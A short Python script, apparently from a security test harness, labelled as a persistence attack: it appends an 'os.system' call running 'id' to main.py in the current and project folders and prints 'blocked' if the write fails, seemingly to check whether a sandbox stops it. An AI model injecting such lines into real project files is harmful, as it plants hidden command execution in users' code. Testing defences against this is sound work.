"""persistence: rewrite main.py in the project."""

import os

from attacklib import *

for folder in (".", PROJECT):
    try:
        open(os.path.join(folder, "main.py"), "a").write("\nimport os; os.system('id')\n")
    except OSError as e:
        print("blocked", e)
